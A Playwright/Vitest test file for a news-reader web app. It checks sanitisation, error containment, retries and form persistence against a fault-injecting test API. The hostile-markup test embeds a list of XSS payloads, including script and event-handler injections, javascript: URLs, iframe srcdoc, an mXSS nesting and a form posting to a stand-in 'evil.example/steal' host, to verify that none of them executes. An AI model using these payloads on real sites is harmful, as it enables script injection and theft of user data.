/**
 * The production build against a content API that sends hostile and broken data
 * (the project's test server, faults injected per request): the reader shows every
 * story it can, explains every one it cannot, executes nothing from the feed, keeps
 * what the reader typed, and never trips the Content-Security-Policy.
 */
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { afterEach, describe, expect, test } from 'vitest';
import type { Page } from 'playwright-core';
import { PROJECT_ROOT } from '../server/server.ts';
import { browserForFile, openPage, poll, serverForFile, waitForSettled, type OpenedPage } from './browser.ts';

const SLUG = 'update-3-whatsapp-says-russia-tried-to-fully-block-service-to-push-state-app';
const STORY_PATH = `/stories/${SLUG}`;
type Json = Record<string, unknown>;
const story = JSON.parse(readFileSync(path.join(PROJECT_ROOT, `mocks/stories/${SLUG}.json`), 'utf8')) as Json & {
  headline: string;
  body: Json[];
};
const taxonomy = JSON.parse(readFileSync(path.join(PROJECT_ROOT, 'mocks/taxonomy.json'), 'utf8')) as {
  sectors: { slug: string }[];
  editions: { slug: string }[];
};

/** Short timeout so the "hung request" case runs in about a second. */
const REQUEST_TIMEOUT_MS = 1500;

const ctx = browserForFile();
const http = serverForFile({ api: true, appConfig: { requestTimeoutMs: REQUEST_TIMEOUT_MS } });

declare global {
  interface Window {
    __xss?: string[];
  }
}

let opened: OpenedPage | null = null;
async function open(): Promise<OpenedPage> {
  opened = await openPage(ctx.browser, http.url);
  // Anything a payload manages to run records itself here.
  await opened.context.addInitScript(() => {
    window.__xss = [];
  });
  return opened;
}
afterEach(async () => {
  http.server.clearFaults();
  await opened?.close();
  opened = null;
});

const h1Texts = (page: OpenedPage['page']) => page.locator('h1').allTextContents();
const box = (page: OpenedPage['page'], name: string) => page.getByRole('region', { name, exact: true });

/** The reference story as the API would send it (fixtures leave `related` to the mock API). */
function storyWith(overrides: Json): Json {
  return { related: [], ...story, ...overrides };
}

/** The browser's own "Failed to load resource" line for an HTTP error the test injected on purpose. */
const isInjectedHttpError = (status: number) => (line: string) =>
  line.startsWith(`Failed to load resource: the server responded with a status of ${status}`);

async function expectOnlyInjectedHttpErrors(opened: OpenedPage, status: number): Promise<void> {
  const found = await opened.problems();
  expect(found.consoleErrors.filter((line) => !isInjectedHttpError(status)(line))).toEqual([]);
  expect(found.pageErrors).toEqual([]);
  expect(found.cspViolations).toEqual([]);
}

/** A card as the feed would send it (a story without body, tags, related, syndicated). */
function card(slug: string, headline: string): Json {
  const { body: _body, tags: _tags, related: _related, syndicated: _syndicated, ...rest } = story;
  return { ...rest, slug, headline };
}

describe('hostile markup', () => {
  test('an html block full of XSS payloads executes nothing and injects nothing', async () => {
    const payloads = [
      '<p id="xss-survivor">Text around the payloads stays.</p>',
      '<script>window.__xss.push("script")</script>',
      '<img src="/favicon.svg" alt="" onerror="window.__xss.push(\'onerror\')" onload="window.__xss.push(\'onload\')">',
      '<a id="js-link" href="javascript:window.__xss.push(\'javascript-url\')">a javascript: link</a>',
      '<iframe src="javascript:parent.__xss.push(\'iframe\')"></iframe>',
      '<iframe srcdoc="<script>parent.__xss.push(\'srcdoc\')</script>"></iframe>',
      '<form action="https://evil.example/steal"><input name="card"><button>Pay</button></form>',
      '<svg><script>window.__xss.push("svg-script")</script><animate onbegin="window.__xss.push(\'svg-animate\')" attributeName="x" dur="1s"></animate></svg>',
      '<object data="data:text/html,<script>parent.__xss.push(1)</script>"></object>',
      '<p style="position:fixed;inset:0;background:red">overlay attempt</p>',
      '<details open ontoggle="window.__xss.push(\'ontoggle\')"><summary>More</summary>Hidden</details>',
      '<a id="external" href="https://example.org/report">An external report</a>',
      '<math><mtext><table><mglyph><style><img src=x onerror="window.__xss.push(\'mxss\')"></style></mglyph></table></mtext></math>',
    ].join('\n');
    http.server.setFaults([
      {
        match: STORY_PATH,
        json: storyWith({
          headline: 'A headline with <b>tags</b> & <script>alert(1)</script> in it',
          summary: 'Summary with <img src=x onerror=alert(1)>',
          body: [
            { type: 'paragraph', text: 'Paragraph with <em>markup</em> shown as text.' },
            { type: 'html', html: payloads },
          ],
        }),
      },
    ]);
    const { page, problems } = await open();
    await page.goto(`/article/${SLUG}`);
    await poll(() => h1Texts(page), 'the h1 elements').toEqual([
      'A headline with <b>tags</b> & <script>alert(1)</script> in it',
    ]);
    await page.locator('#xss-survivor').waitFor();
    expect(await page.getByText('Paragraph with <em>markup</em> shown as text.').count()).toBe(1);

    const article = page.locator('main article');
    const injected = await article.evaluate((root) => {
      const fromFeed = [...root.querySelectorAll('.safe-html')];
      return {
        elements: fromFeed.flatMap((html) =>
          [
            ...html.querySelectorAll('script, iframe, object, embed, form, input, button, textarea, style, link, base'),
          ].map((element) => element.tagName.toLowerCase()),
        ),
        inlineStyles: fromFeed.flatMap((html) => [...html.querySelectorAll('[style]')]).length,
        handlers: [...root.querySelectorAll('*')].flatMap((element) =>
          [...element.attributes].filter((attribute) => /^on/i.test(attribute.name)).map((a) => a.name),
        ),
        javascriptUrls: [...root.querySelectorAll('[href], [src], [action], [data]')]
          .flatMap((element) => ['href', 'src', 'action', 'data'].map((name) => element.getAttribute(name) ?? ''))
          .filter((url) => /^\s*(javascript|data:text\/html)/i.test(url)),
      };
    });
    expect(injected.elements, 'script, frame, plugin, form or style elements from the feed').toEqual([]);
    expect(injected.inlineStyles, 'inline styles from the feed').toBe(0);
    expect(injected.handlers, 'event handler attributes in the article').toEqual([]);
    expect(injected.javascriptUrls, 'javascript: URLs in the article').toEqual([]);

    const external = page.locator('#external');
    expect(await external.getAttribute('rel')).toBe('noopener noreferrer');
    expect(await external.getAttribute('target')).toBe('_blank');

    // Clicking what is left of the javascript: link does nothing either.
    if ((await page.locator('#js-link').count()) > 0) await page.locator('#js-link').click();
    await page.locator('details summary').first().click();
    await waitForSettled(page);
    expect(await page.evaluate(() => window.__xss)).toEqual([]);
    const found = await problems();
    expect(found.cspViolations, 'CSP violations (an injected payload got as far as the browser)').toEqual([]);
    expect(found.pageErrors).toEqual([]);
  });
});

describe('broken data', () => {
  test('missing optional fields, nulls and unknown block types: unknown ones show their text, the rest renders', async () => {
    const { source: _source, byline: _byline, image: _image, sector: _sector, ...bare } = story;
    http.server.setFaults([
      {
        match: STORY_PATH,
        json: {
          ...bare,
          related: [],
          byline: null,
          body: [
            { type: 'paragraph', text: 'First paragraph survives.' },
            // A known block that breaks the contract (no src) and says nothing: left out.
            { type: 'video', width: 640 },
            { type: 'quote', text: 'A quote with no attribution.', attribution: null },
            {
              type: 'image',
              src: '/mock-images/data-panel.svg',
              alt: 'An image without caption',
              width: 1200,
              height: 675,
            },
            { type: 'poll', question: 'Unknown block?' },
            { type: 'paragraph', text: 'Last paragraph survives.' },
          ],
        },
      },
    ]);
    const { page, expectNoProblems } = await open();
    await page.goto(`/article/${SLUG}`);
    await poll(() => h1Texts(page), 'the h1 elements').toEqual([story.headline]);
    await page.getByText('First paragraph survives.').waitFor();
    await page.getByText('Last paragraph survives.').waitFor();
    await page.getByText('A quote with no attribution.').waitFor();
    await page.getByText('Unknown block?').waitFor();
    expect(await page.locator('article .article-text p', { hasText: 'Unknown block?' }).count()).toBe(1);
    await waitForSettled(page);
    await expectNoProblems();
  });

  test('a story that fails validation as a whole says so, with a retry that works', async () => {
    http.server.setFaults([{ match: STORY_PATH, json: { slug: 42, headline: null, body: 'not blocks' } }]);
    const { page, problems } = await open();
    await page.goto(`/article/${SLUG}`);
    await poll(() => h1Texts(page), 'the h1 elements').toEqual(['This story could not be read']);
    // The rest of the page keeps working: the sidebar boxes still load.
    await box(page, 'Trending').getByRole('listitem').first().waitFor();

    http.server.clearFaults();
    await page.getByRole('main').getByRole('button', { name: 'Try again' }).first().click();
    await poll(() => h1Texts(page), 'the h1 elements').toEqual([story.headline]);
    expect((await problems()).pageErrors).toEqual([]);
  });

  test('a feed with malformed items shows the others and reports each dropped item once', async () => {
    const good = [card('good-one', 'First good story'), card('good-two', 'Second good story')];
    http.server.setFaults([
      {
        match: 'feed=latest',
        json: {
          items: [good[0], { ...card('broken-headline', 'x'), headline: 42 }, 'not even an object', good[1]],
          nextCursor: null,
        },
      },
    ]);
    const { page, expectNoProblems } = await open();
    const warnings: string[] = [];
    page.on('console', (message) => {
      if (message.type() === 'warning' && message.text().startsWith('[api]')) warnings.push(message.text());
    });
    await page.goto('/latest');
    const list = page.getByRole('list', { name: 'Latest News' });
    await poll(() => list.getByRole('heading').allTextContents(), 'the latest news headlines').toEqual([
      'First good story',
      'Second good story',
    ]);
    await waitForSettled(page);
    expect(warnings.filter((text) => text.includes('"broken-headline" (index 1)'))).toHaveLength(1);
    expect(warnings.filter((text) => text.includes('index 2'))).toHaveLength(1);
    await expectNoProblems();
  });
});

describe('failures are contained and recoverable', () => {
  test('failing widgets leave the article standing; each box shows its own error and retry', async () => {
    http.server.setFaults([
      { match: 'feed=trending', body: '<html>502 Bad Gateway</html>', contentType: 'text/html' },
      { match: 'feed=opinion', json: { items: 'nope', nextCursor: 3 } },
      { match: 'feed=latest', status: 400 },
    ]);
    const { page, problems } = await open();
    await page.goto(`/article/${SLUG}`);
    await poll(() => h1Texts(page), 'the h1 elements').toEqual([story.headline]);
    await page.getByText(String((story.body[0] as { text: string }).text).slice(0, 40)).waitFor();

    const trending = box(page, 'Trending');
    const opinion = box(page, 'OPINION / BLOG / INTERVIEW');
    const latest = box(page, 'Latest News');
    await trending.getByRole('alert').filter({ hasText: 'could not be read' }).waitFor();
    await opinion.getByRole('alert').filter({ hasText: 'could not be read' }).waitFor();
    await latest.getByRole('alert').filter({ hasText: 'Could not load' }).waitFor();

    http.server.clearFaults();
    await trending.getByRole('button', { name: 'Try again' }).click();
    await trending.getByRole('listitem').first().waitFor();
    expect(await opinion.getByRole('alert').count(), 'the other boxes keep their own state').toBe(1);
    expect((await problems()).pageErrors).toEqual([]);
  });

  test('a 5xx is retried with backoff, and the story arrives', async () => {
    http.server.setFaults([{ match: STORY_PATH, status: 503, once: true }]);
    const opened = await open();
    const { page } = opened;
    const storyRequests: number[] = [];
    page.on('response', (response) => {
      if (response.url().endsWith(`/api${STORY_PATH}`)) storyRequests.push(response.status());
    });
    await page.goto(`/article/${SLUG}`);
    await poll(() => h1Texts(page), 'the h1 elements').toEqual([story.headline]);
    expect(storyRequests).toEqual([503, 200]);
    await waitForSettled(page);
    await expectOnlyInjectedHttpErrors(opened, 503);
  });

  test('a request that hangs is abandoned after the timeout and retried', async () => {
    http.server.setFaults([{ match: STORY_PATH, delayMs: 30_000, once: true }]);
    const { page, expectNoProblems } = await open();
    const started = Date.now();
    await page.goto(`/article/${SLUG}`);
    // The static shell's skeleton, or the article's once the first page stops waiting for its data.
    await page
      .getByRole('status')
      .filter({ hasText: /Loading the (page|story)/ })
      .waitFor();
    await poll(() => h1Texts(page), 'the h1 elements').toEqual([story.headline]);
    expect(Date.now() - started).toBeGreaterThanOrEqual(REQUEST_TIMEOUT_MS);
    await waitForSettled(page);
    await expectNoProblems();
  });

  test('a 404 from the API shows the not-found page with a way home', async () => {
    const opened = await open();
    const { page } = opened;
    const storyRequests: string[] = [];
    page.on('request', (request) => {
      if (request.url().includes('/stories/no-such-story-anywhere')) storyRequests.push(request.url());
    });
    await page.goto('/article/no-such-story-anywhere');
    await poll(() => h1Texts(page), 'the h1 elements').toEqual(['Story not found']);
    await page
      .getByRole('main')
      .getByRole('link', { name: /home page/i })
      .waitFor();
    await waitForSettled(page);
    // Asked once: a 404 is the answer, for the first page's prefetch and the page alike.
    expect(storyRequests).toHaveLength(1);
    await expectOnlyInjectedHttpErrors(opened, 404);
  });
});

describe('forms keep what the reader typed', () => {
  // Their code loads as they near the viewport (src/components/Deferred.tsx): once the page stops growing.
  async function toTheForms(page: Page) {
    await waitForSettled(page);
    await page.getByRole('region', { name: 'Stay in touch' }).scrollIntoViewIfNeeded();
  }

  test('a failed newsletter POST keeps the email and offers a retry that works', async () => {
    http.server.setFaults([{ match: '/newsletter', status: 500 }]);
    const { page } = await open();
    await page.goto('/');
    await poll(() => h1Texts(page), 'the h1 elements').toEqual(['Top stories']);
    await toTheForms(page);
    const email = page.getByRole('textbox', { name: 'Email address' });
    await email.fill('reader@example.com');
    await page.getByRole('button', { name: 'Subscribe' }).click();
    const failure = page.getByRole('alert').filter({ hasText: 'We could not sign you up' });
    await failure.waitFor();
    expect(await email.inputValue()).toBe('reader@example.com');

    http.server.clearFaults();
    await failure.getByRole('button', { name: 'Try again' }).click();
    await page.getByRole('status').filter({ hasText: 'Thanks! Check your inbox' }).waitFor();
  });

  test('a 422 from the server is shown next to the field it is about', async () => {
    http.server.setFaults([
      {
        match: '/newsletter',
        status: 422,
        json: {
          error: {
            code: 'invalid_email',
            message: 'Some fields need attention',
            fields: { email: 'This domain does not accept mail' },
          },
        },
      },
    ]);
    const { page } = await open();
    await page.goto('/');
    await toTheForms(page);
    const email = page.getByRole('textbox', { name: 'Email address' });
    await email.fill('reader@example.com');
    await page.getByRole('button', { name: 'Subscribe' }).click();
    await poll(() => email.getAttribute('aria-invalid'), 'aria-invalid on the email field').toBe('true');
    const describedBy = (await email.getAttribute('aria-describedby')) ?? '';
    expect(await page.locator(`[id="${describedBy}"]`).textContent()).toBe('This domain does not accept mail');
    expect(await email.inputValue()).toBe('reader@example.com');
  });

  test('a failed feedback POST keeps the message', async () => {
    http.server.setFaults([{ match: '/feedback', drop: true }]);
    const { page } = await open();
    await page.goto(`/article/${SLUG}`);
    await poll(() => h1Texts(page), 'the h1 elements').toEqual([story.headline]);
    await toTheForms(page);
    await page.getByRole('button', { name: 'Give feedback' }).click();
    const message = page.getByRole('textbox', { name: 'Your feedback' });
    await message.fill('The second paragraph has a typo.');
    await page.getByRole('button', { name: 'Send feedback' }).click();
    await page.getByRole('alert').filter({ hasText: 'We could not send your feedback' }).waitFor();
    expect(await message.inputValue()).toBe('The second paragraph has a typo.');
  });
});

describe('api mode, every route', () => {
  const routes = [
    '/',
    `/article/${SLUG}`,
    '/latest',
    '/trending',
    '/opinion',
    '/devshots',
    `/sector/${taxonomy.sectors[0]!.slug}`,
    `/edition/${taxonomy.editions[0]!.slug}`,
    '/search?q=WhatsApp',
    '/no-such-page',
  ];
  test('no console error, page error, CSP violation or third-party request on any route', async () => {
    const { page, expectNoProblems } = await open();
    const elsewhere: string[] = [];
    page.on('request', (request) => {
      const url = new URL(request.url());
      if (url.protocol !== 'data:' && url.origin !== new URL(http.url).origin) elsewhere.push(request.url());
    });
    for (const route of routes) {
      await page.goto(route);
      await poll(() => page.locator('h1').count(), `the h1 on ${route}`).toBe(1);
      await waitForSettled(page);
    }
    expect(elsewhere, 'requests to other origins').toEqual([]);
    await expectNoProblems();
  });
});
